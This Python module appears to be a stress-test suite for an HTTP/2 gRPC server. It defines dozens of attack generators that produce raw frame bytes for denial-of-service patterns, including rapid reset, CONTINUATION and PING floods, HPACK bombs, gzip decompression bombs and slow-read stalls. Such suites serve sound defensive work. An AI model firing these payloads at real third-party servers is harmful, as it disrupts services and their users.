"""Clients that break the rules, or keep them in bad faith. Each attack yields bytes to send."""

import gzip

from hyperframe import frame as frames

from wire import data, frame, integer, literal, message, raw, reset, window

ATTACKS = {}
MIB = 1024 * 1024
PACKED = gzip.compress(bytes(4 * MIB), 9)
GZIP = [("grpc-encoding", "gzip")]


def attack(connections=3, hold=0, settings=None, deaf=False, together=False):
    """Registers an attack: how many connections it uses, one after the other or `together`, and how many seconds each waits to be
    closed after its last byte."""

    def register(run):
        terms = dict(connections=connections, hold=hold, settings=settings, deaf=deaf, together=together)
        ATTACKS[run.__name__] = (run, terms)
        return run

    return register


@attack(hold=5)
def rapid_reset(wire):
    for stream in range(1, 20_000, 2):
        yield wire.request(stream, "Wait", b"") + reset(stream)


@attack(hold=5)
def provoked_resets(wire):
    """The server is made to reset: a window that overflows is a stream error."""
    for stream in range(1, 20_000, 2):
        yield wire.request(stream, "Wait", b"", end=False) + window(stream, 2**31 - 1)


@attack(hold=5)
def continuation_flood(wire):
    yield raw(1, 0, 1, literal(b"a", b"b" * 1000))
    for _ in range(20_000):
        yield raw(9, 0, 1, literal(b"a", b"b" * 1000))


@attack(hold=5)
def empty_continuation_flood(wire):
    yield raw(1, 0, 1, b"\x83")
    for _ in range(100_000):
        yield raw(9, 0, 1, b"")


@attack()
def settings_flood(wire):
    for _ in range(50_000):
        yield frame(frames.SettingsFrame, 0, settings={4: 65535})


@attack(deaf=True)
def settings_flood_unread(wire):
    for _ in range(200_000):
        yield frame(frames.SettingsFrame, 0, settings={4: 65535})


@attack()
def ping_flood(wire):
    for _ in range(50_000):
        yield frame(frames.PingFrame, 0, opaque_data=b"12345678")


@attack(deaf=True)
def ping_flood_unread(wire):
    for _ in range(200_000):
        yield frame(frames.PingFrame, 0, opaque_data=b"12345678")


@attack(hold=5)
def window_overflow(wire):
    yield window(0, 2**31 - 1) + window(0, 2**31 - 1)


@attack(hold=1)
def stream_window_overflow(wire):
    for stream in range(1, 400, 2):
        yield wire.request(stream, "Wait", b"") + window(stream, 2**31 - 1) * 2


@attack()
def hpack_bomb(wire):
    """One large field in the table, named four thousand times in each block."""
    yield wire.request(1, "Call", b"")
    for stream in range(3, 60, 2):
        yield raw(1, 0x5, stream, literal(b"x", b"y" * 3000, True) + b"\xbe" * 13_000)


@attack(hold=1)
def many_headers(wire):
    block = b"".join(literal(b"x-%d" % number, b"y" * 100) for number in range(140))
    for stream in range(1, 100, 2):
        yield raw(1, 0, stream, block) + raw(9, 0, stream, block) * 8 + raw(9, 4, stream, block)


@attack()
def table_churn(wire):
    """HPACK's table changes its size all the time."""
    churn = (integer(0, 5, 0x20) + integer(4096, 5, 0x20)) * 3000
    for stream in range(1, 400, 2):
        yield raw(1, 0x5, stream, churn)


@attack()
def empty_data_flood(wire):
    yield wire.request(1, "Wait", b"", end=False)
    for _ in range(300_000):
        yield data(1, b"")


@attack()
def scraps(wire):
    """One byte a frame, to a handler that never reads."""
    yield wire.request(1, "Wait", b"", end=False)
    for _ in range(60_000):
        yield data(1, b"\0")


@attack()
def priority_flood(wire):
    for stream in range(1, 400_000, 2):
        yield raw(2, 0, stream, (0).to_bytes(4, "big") + b"\x10")


@attack()
def unknown_frames(wire):
    for number in range(100_000):
        yield raw(0xF0, number % 256, number, b"what is this")


@attack()
def padding(wire):
    """Every byte of a message in 256 bytes of padding, as is allowed."""
    yield wire.request(1, "Drain", end=False)
    for byte in message(b"x" * 200):
        yield raw(0, 0x8, 1, b"\xff" + bytes([byte]) + b"\0" * 255)
    yield data(1, b"", end=True)


@attack(hold=5)
def bad_padding(wire):
    yield wire.request(1, "Drain", end=False)
    yield raw(0, 0x8, 1, b"\xffx")


@attack()
def tiny_messages(wire):
    yield wire.request(1, "Drain", end=False)
    for _ in range(20_000):
        yield data(1, message(b""))
    yield data(1, b"", end=True)


@attack()
def claims(wire):
    """Each stream claims a message of nearly the limit and sends none of it."""
    for stream in range(1, 2_000, 2):
        yield wire.request(stream, "Call", end=False)
        yield data(stream, message(b"", length=4 * 1024 * 1024 - 1))


@attack(connections=20)
def abandoned_streams(wire):
    for stream in range(1, 400, 2):
        yield wire.request(stream, "Call", end=False) + data(stream, b"\0\0")


@attack(hold=2, settings={4: 0})
def zero_window(wire):
    """Large replies are asked for and never taken."""
    for stream in range(1, 1_000, 2):
        yield wire.request(stream, "Blob", b"")


@attack(hold=2, settings={4: 1})
def trickle(wire):
    """Large replies are taken byte by byte."""
    for stream in range(1, 1_000, 2):
        yield wire.request(stream, "Blob", b"")
    for _ in range(20):
        for stream in range(1, 1_000, 2):
            yield window(stream, 1)


@attack(hold=2, settings={4: 1})
def trickled_streams(wire):
    for stream in range(1, 400, 2):
        yield wire.request(stream, "Pour", b"")
    for _ in range(20):
        for stream in range(1, 400, 2):
            yield window(stream, 1)


@attack(hold=1)
def endless_trailers(wire):
    yield wire.request(1, "Drain", end=False)
    for _ in range(10_000):
        yield raw(1, 0x4, 1, literal(b"x", b"y"))


@attack(connections=100, hold=30, deaf=True, together=True)
def slow_headers(wire):
    """The head of a request never comes to its end."""
    yield wire.request(1, "Call", b"")[:20]


@attack(connections=100, hold=30, deaf=True, together=True)
def deaf_callers(wire):
    """Callers that vanished: nothing is acknowledged, no probe is answered."""
    yield wire.request(1, "Wait", b"")


@attack(connections=4, hold=2, together=True)
def packed_calls(wire):
    """Small calls that inflate to the largest message, and last."""
    for stream in range(1, 100, 2):
        yield wire.request(stream, "Wait", end=False, extra=GZIP)
        yield from wire.upload(stream, message(PACKED, flag=1))


@attack(connections=2, hold=2, together=True)
def packed_streams(wire):
    """Streams of small messages that inflate to the largest, to a handler that takes its time."""
    for stream in range(1, 9, 2):
        yield wire.request(stream, "Hoard", end=False, extra=GZIP)
        yield from wire.upload(stream, message(PACKED, flag=1) * 100, patience=1)


@attack(connections=4, hold=2, together=True)
def unfinished_messages(wire):
    """Large messages that lack their last byte."""
    most = message(bytes(4 * MIB - 1), length=4 * MIB)
    for stream in range(1, 80, 2):
        yield wire.request(stream, "Call", end=False)
        yield from wire.upload(stream, most, patience=0.2)


@attack(connections=17, hold=2, together=True)
def many_heads(wire):
    """As many heads as a connection may send, without a message."""
    for stream in range(1, 2_000, 2):
        yield wire.request(stream, "Call", end=False)


@attack(connections=4, hold=2, together=True)
def large_heads(wire):
    """Calls that last, each with a head of nearly the limit."""
    for stream in range(1, 600, 2):
        name = b"x-%d" % stream
        head = wire.request(stream, "Wait", end=False)
        flags = head[4] & ~4
        yield head[:4] + bytes([flags]) + head[5:]
        for part in range(3):
            yield raw(9, 4 if part == 2 else 0, stream, literal(name, b"y" * 16_000))
        yield data(stream, message(b""))


@attack(connections=1, hold=2)
def made_up_callers(wire):
    """Each call comes from another service with a very long name."""
    for number in range(4_200):
        stream = 2 * number + 1
        head = wire.request(stream, "Call", end=False)
        yield head[:4] + bytes([head[4] & ~4]) + head[5:]
        name = b"%06d" % number + b"z" * 15_000
        yield raw(9, 4, stream, literal(b"micro-from-service", name))
        yield data(stream, message(b""), end=True)
